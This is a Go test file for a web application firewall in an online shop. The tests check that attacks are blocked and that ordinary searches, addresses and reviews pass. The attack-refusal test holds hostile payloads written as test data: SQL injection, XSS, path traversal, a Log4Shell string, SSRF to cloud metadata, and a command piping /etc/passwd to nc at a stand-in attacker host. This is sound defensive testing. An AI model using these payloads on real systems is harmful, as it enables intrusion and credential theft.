package firewall

import (
	"encoding/csv"
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"strings"
	"testing"

	"github.com/prometheus/client_golang/prometheus"
	"github.com/prometheus/client_golang/prometheus/testutil"
	"github.com/stretchr/testify/require"
	"go.uber.org/zap"
	"go.uber.org/zap/zaptest/observer"

	"souk/pkg/errs"
)

func open(t testing.TB, c Config, logger *zap.Logger) *Firewall {
	t.Helper()
	f, err := New(c, nil, logger, prometheus.NewRegistry())
	require.NoError(t, err)
	return f
}

const route = "/v1/products"

func newBlocking(t testing.TB) *Firewall {
	t.Helper()
	c := DefaultConfig()
	c.Mode = Block
	return open(t, c, zap.NewNop())
}

// request returns one as a browser sends it.
func request(method, target string, body string) (*http.Request, []byte) {
	r := httptest.NewRequest(method, target, strings.NewReader(body))
	r.Host = "shop.example.com"
	r.Header.Set("User-Agent", "Mozilla/5.0 (X11; Linux x86_64; rv:143.0) Gecko/20100101 Firefox/143.0")
	r.Header.Set("Accept", "application/json")
	r.Header.Set("Cookie", "__Host-session=' or 1=1 --") // not examined
	if body != "" {
		r.Header.Set("Content-Type", "application/json")
	}
	return r, []byte(body)
}

func search(q string) string {
	return "/v1/products?" + url.Values{"q": {q}, "pageSize": {"24"}}.Encode()
}

func TestAttacksAreRefused(t *testing.T) {
	t.Parallel()
	f := newBlocking(t)
	review := func(text string) string {
		body, err := json.Marshal(map[string]any{"rating": 5, "text": text})
		require.NoError(t, err)
		return string(body)
	}
	for name, tt := range map[string]struct{ method, target, body string }{
		"SQL injection":            {"GET", search("x' UNION SELECT password FROM users --"), ""},
		"SQL injection by time":    {"GET", search("1; SELECT pg_sleep(10)--"), ""},
		"script":                   {"GET", search("<script>alert(document.cookie)</script>"), ""},
		"event handler":            {"POST", "/v1/products/prd_1/reviews", review(`<img src=x onerror="fetch('//evil')">`)},
		"path traversal":           {"GET", "/v1/products?q=..%2F..%2F..%2Fetc%2Fpasswd", ""},
		"shell command":            {"GET", search("; cat /etc/passwd | nc evil.example 80"), ""},
		"Log4Shell in a text":      {"POST", "/v1/products/prd_1/reviews", review("${jndi:ldap://evil.example/a}")},
		"SQL injection in a text":  {"POST", "/v1/products/prd_1/reviews", review("1' OR '1'='1' UNION SELECT email FROM users--")},
		"header that splits":       {"GET", search("a\r\nSet-Cookie: session=1"), ""},
		"address of cloud secrets": {"GET", "/auth/login?return_to=http://169.254.169.254/latest/meta-data/", ""},
	} {
		r, body := request(tt.method, tt.target, tt.body)
		require.Equal(t, errs.RequestRefused, errs.CodeOf(f.Check(r, route, body)), name)
	}
	r, _ := request("GET", "/v1/products", "")
	r.Header.Set("User-Agent", "sqlmap/1.9 (https://sqlmap.org)")
	require.Error(t, f.Check(r, route, nil), "a scanner")
	require.EqualValues(t, 11, testutil.ToFloat64(f.results.WithLabelValues("refused")))
}

// TestCheckoutsPass: a customer whose address has odd words still buys.
func TestCheckoutsPass(t *testing.T) {
	t.Parallel()
	f := newBlocking(t)
	for _, line := range []string{
		"1 Select St; table 5", "12 Union Street", "Drop Lane 7 -- 2nd floor", "O'Neil & Sons, Or 1=1 Court", "Rua 1' nº 2", "/etc/ House",
	} {
		body, err := json.Marshal(
			map[string]any{"shippingAddress": map[string]any{"name": "Zoë O'Neil-Drop", "line1": line}},
		)
		require.NoError(t, err)
		r, raw := request("POST", "/v1/checkout", string(body))
		require.NoError(t, f.Check(r, route, raw), line)
	}
}

func TestDetectLetsPassAndSaysWhichRules(t *testing.T) {
	t.Parallel()
	core, logs := observer.New(zap.WarnLevel)
	c := DefaultConfig()
	c.Mode = Detect
	f := open(t, c, zap.New(core))
	attack, _ := request("GET", search("x' UNION SELECT password FROM users --"), "")
	require.NoError(t, f.Check(attack, route, nil))
	require.EqualValues(t, 1, testutil.ToFloat64(f.results.WithLabelValues("suspicious")))
	require.Equal(t, 1, logs.Len())
	fields := logs.All()[0].ContextMap()
	require.NotEmpty(t, fields["rules"])
	require.NotContains(t, logs.All()[0].ContextMap(), "UNION")

	// A rule that is named no longer counts.
	for _, id := range fields["rules"].([]any) {
		c.DisabledRules = append(c.DisabledRules, id.(int))
	}
	c.Mode = Block
	require.NoError(t, open(t, c, zap.NewNop()).Check(attack, route, nil))
}

func TestOffExaminesNothing(t *testing.T) {
	t.Parallel()
	f := open(t, DefaultConfig(), zap.NewNop())
	require.Nil(t, f)
	attack, _ := request("GET", search("x' UNION SELECT password FROM users --"), "")
	require.NoError(t, f.Check(attack, route, nil))
}

func TestMistakesAreNamed(t *testing.T) {
	t.Parallel()
	require.NoError(t, DefaultConfig().Validate())
	for name, c := range map[string]Config{
		"mode":           {Mode: "on", Paranoia: 1, Threshold: 5},
		"paranoia":       {Mode: Block, Paranoia: 5, Threshold: 5},
		"threshold":      {Mode: Block, Paranoia: 1},
		"disabled_rules": {Mode: Block, Paranoia: 1, Threshold: 5, DisabledRules: []int{0}},
	} {
		require.ErrorContains(t, c.Validate(), name)
	}
}

// column returns a column of a table of real marketplace data.
func column(t testing.TB, file, name string) []string {
	t.Helper()
	in, err := os.Open("../../../../../shared/data/" + file)
	if os.IsNotExist(err) {
		t.Skip("there are no real data beside the project")
	}
	require.NoError(t, err)
	defer func() { require.NoError(t, in.Close()) }()
	rows, err := csv.NewReader(in).ReadAll()
	require.NoError(t, err)
	at := -1
	for i, column := range rows[0] {
		if column == name {
			at = i
		}
	}
	require.GreaterOrEqual(t, at, 0, "%s has no column %s", file, name)
	var out []string
	for _, row := range rows[1:] {
		out = append(out, row[at])
	}
	return out
}

// TestRealSearchesPass asks what people asked real shops.
func TestRealSearchesPass(t *testing.T) {
	t.Parallel()
	f := newBlocking(t)
	for file, name := range map[string]string{
		"pricerunner/queries.csv": "query", "wands/queries.csv": "query",
	} {
		for _, q := range column(t, file, name) {
			r, _ := request("GET", search(q), "")
			require.NoError(t, f.Check(r, route, nil), "%s: %s", file, q)
		}
	}
}

// TestRealTextsPass bounds how many real texts are refused by mistake.
func TestRealTextsPass(t *testing.T) {
	t.Parallel()
	f := newBlocking(t)
	for _, tt := range []struct {
		file, column string
		most         int // refused
	}{
		{"olist/order_reviews.csv", "review_comment_message", 0},
		{"tokopedia/reviews.csv", "Customer Review", 0},
		{"amazon-google/amazon.csv", "description", 1},
		{"amazon-google/google.csv", "description", 1},
		{"pricerunner/offers.csv", "title", 0},
		{"bestbuy/stores.csv", "address", 0},
	} {
		texts := column(t, tt.file, tt.column)
		texts = texts[:min(len(texts), 200)]
		refused := 0
		for _, text := range texts {
			body, err := json.Marshal(map[string]any{"rating": 4, "text": text})
			require.NoError(t, err)
			r, raw := request("POST", "/v1/products/prd_1/reviews", string(body))
			if f.Check(r, route, raw) != nil {
				refused++
				t.Logf("%s: %.120s", tt.file, text)
			}
		}
		t.Logf("%s: %d of %d refused", tt.file, refused, len(texts))
		require.LessOrEqual(t, refused, tt.most, tt.file)
	}
}

func BenchmarkSearch(b *testing.B) {
	f := newBlocking(b)
	for b.Loop() {
		r, _ := request("GET", search("running shoes women size 38"), "")
		_ = f.Check(r, route, nil)
	}
}

func BenchmarkReview(b *testing.B) {
	f := newBlocking(b)
	body := `{"rating":5,"text":"` + strings.Repeat(
		"The shoes fit well, and the colour is as in the picture. ",
		10,
	) + `"}`
	for b.Loop() {
		r, raw := request("POST", "/v1/products/prd_1/reviews", body)
		_ = f.Check(r, route, raw)
	}
}
